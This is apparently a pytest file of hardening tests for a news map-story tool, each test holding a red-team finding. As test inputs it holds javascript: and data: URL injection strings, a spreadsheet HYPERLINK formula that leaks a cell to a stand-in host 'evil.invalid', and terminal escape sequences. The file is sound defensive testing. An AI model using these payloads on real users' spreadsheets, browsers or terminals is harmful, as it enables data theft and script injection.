"""Hardening, round two (issue 19): what a red-team pass found, each held by a test."""

import csv
import io
import os
import subprocess
import sys

import pytest

import geo
from geo.outputs import render_all

DOLLARS = ("title: 'fuel at $5 a litre, bread at $2'\n"
           "subtitle: '$\\undefinedcommand{x}$ and $$'\n"
           "places:\n  - {id: a, name: '$x$ town', lonlat: [40, 33]}\n"
           "  - {id: b, name: Rutba, lookup: Ar Rutbah}\n"
           "movements:\n  - {from: a, to: b, label: '$3 each, $4 return', date: 2024-12-01}\n"
           "areas:\n  - {lookup: Al Anbar, label: 'Anbar ($1 bread)'}\n")


def test_dollar_signs_are_text_in_every_static_format():
    # matplotlib reads text between two $ as mathtext: "fuel at $5 a litre, bread at $2"
    # came out as italic math, and malformed math crashed png, svg, pdf and gif.
    story = geo.parse_story(DOLLARS)
    out = render_all(story, ["png", "svg", "pdf", "gif"])
    svg = out["svg"].decode("utf-8")
    for text in ("fuel at $5 a litre, bread at $2", "$x$ town", "$3 each, $4 return",
                 "Anbar ($1 bread)"):
        assert text in svg, text
    assert out["png"].startswith(b"\x89PNG") and out["gif"].startswith(b"GIF89a")


def test_a_hostile_file_name_never_becomes_a_scheme_in_the_embed_snippet(tmp_path):
    # A story file named javascript:alert(document.domain).yaml gave
    # <iframe src="javascript:alert(document.domain).html">, which Chromium ran.
    story = geo.parse_story("title: t\nplaces: [{id: a, name: A, lonlat: [40, 33]}]\n",
                            filename=str(tmp_path / "javascript:alert(document.domain).yaml"))
    snippet = render_all(story, ["html"])["embed.html"].decode("utf-8")
    assert 'src="javascript%3Aalert%28document.domain%29.html"' in snippet
    assert "javascript:" not in snippet
    from geo.web import render_embed

    assert 'src="data%3Atext/html' in render_embed(story, src="data:text/html,<script>")
    assert 'src="https://news.example/maps/a.html"' in render_embed(
        story, src="https://news.example/maps/a.html")


def test_csv_cells_that_spreadsheets_read_as_formulas_stay_text():
    story = geo.parse_story(
        "title: t\nsources: [{id: s, name: '@SUM(1+1)'}]\nplaces:\n"
        "  - {id: a, name: '=HYPERLINK(\"http://evil.invalid/?leak=\"&A2,\"Click\")',"
        " lonlat: [40, 33], note: '+1', source: s}\n"
        "  - {id: b, name: '-2+3', lonlat: [41, 34], note: \"\\tcmd\"}\n")
    rows = list(csv.DictReader(io.StringIO(render_all(story, ["csv"])["csv"].decode())))
    assert rows[0]["name"].startswith("'=HYPERLINK(") and rows[0]["note"] == "'+1"
    assert rows[0]["source_name"] == "'@SUM(1+1)"
    assert rows[1]["name"] == "'-2+3" and rows[1]["note"] == "'\tcmd"


@pytest.mark.skipif(len(os.sched_getaffinity(0)) < 2, reason="one core: nothing is forked")
def test_a_crash_in_the_forked_copy_is_reported_as_itself():
    # The cleanup after a failed forked render closed its pipe again, and that EBADF
    # ("Bad file descriptor") replaced the real error.
    from geo.fork import forked

    failing = forked(lambda: {}["missing"])
    with pytest.raises(KeyError):
        failing()
    failing(cancel=True)  # a cleanup after the failure: a no-op, not an OSError


def test_outputs_follow_the_umask(tmp_path):
    code = ("import os, geo; os.umask(0o077); "
            "geo.save(geo.load_story(geo.example_path()), {!r}, formats=['geojson'])")
    subprocess.run([sys.executable, "-c", code.format(str(tmp_path))], check=True,
                   capture_output=True)
    mode = (tmp_path / "syria-iraq-soldiers.geojson").stat().st_mode & 0o777
    assert mode == 0o600


@pytest.mark.parametrize("value", [".nan", ".inf", "-.inf"])
def test_an_uncertainty_that_is_no_number_is_refused_with_its_position(value):
    # uncertainty_km: .nan was accepted, and a large story's page then showed nothing.
    with pytest.raises(geo.StoryError, match=r"line 2 .*places\[0\]\.uncertainty_km") as err:
        geo.parse_story(f"title: t\nplaces: [{{id: a, name: A, lonlat: [40, 33], "
                        f"uncertainty_km: {value}}}]\n")
    assert len(err.value.problems) == 1


def test_url_schemes_are_compared_without_case():
    story = geo.parse_story("title: t\nsources: [{id: s, name: S, url: 'HTTPS://example.org/a'}]\n"
                            "places: [{id: a, name: A, lonlat: [40, 33], source: s}]\n")
    assert story.sources["s"]["url"] == "HTTPS://example.org/a"
    with pytest.raises(geo.StoryError, match="must start with http"):
        geo.parse_story("title: t\nsources: [{id: s, name: S, url: 'JAVASCRIPT:alert(1)'}]\n"
                        "places: [{id: a, name: A, lonlat: [40, 33]}]\n")


@pytest.mark.parametrize("char", ["\x1b", "\x07", "\x0b", "\x0c", "\x00", "\x9b"])
def test_control_characters_in_story_text_are_refused_with_their_position(char):
    # ESC, BEL, VT, FF were accepted: the KML export crashed and the SVG was not XML.
    text = ('{"title": "t", "places": [{"id": "a", "name": "A' + char.encode(
        "unicode_escape").decode().replace("\\x", "\\u00") + '", "lonlat": [40, 33]}]}')
    with pytest.raises(geo.StoryError, match=r"places\[0\]\.name: text holds the control"):
        geo.parse_story(text, filename="s.json")


def test_terminal_escapes_in_an_article_reach_stderr_escaped(tmp_path):
    article = tmp_path / "a.txt"
    article.write_text("Reports that refugees crossed into Jordan from \x1b]0;pwned\x07Syria "
                       "were denied by Amman.\n", encoding="utf-8")
    res = subprocess.run([sys.executable, "-m", "geo.cli", "--draft", str(article)],
                         capture_output=True, text=True)
    assert "skipped a movement" in res.stderr  # the review quotes the sentence...
    assert "\x1b" not in res.stderr and "\x07" not in res.stderr  # ...escaped
    assert "\\x1b]0;pwned\\x07" in res.stderr


def test_terminal_escapes_in_a_story_never_reach_the_terminal_raw(tmp_path):
    story = tmp_path / "s.yaml"
    story.write_text('title: t\nplaces:\n  - {id: a, name: A, lonlat: [40, 33],'
                     ' review: "\\e]0;pwned\\a\\e[2J"}\n  - {id: b, name: B, lonlat: [41, 34],'
                     ' "\\e[31mkey": 1}\n', encoding="utf-8")
    res = subprocess.run([sys.executable, "-m", "geo.cli", str(story), "-o", str(tmp_path)],
                         capture_output=True, text=True)
    assert res.returncode == 2 and "\x1b" not in res.stderr and "\x07" not in res.stderr
    assert "control character" in res.stderr and not list(tmp_path.glob("*.html"))
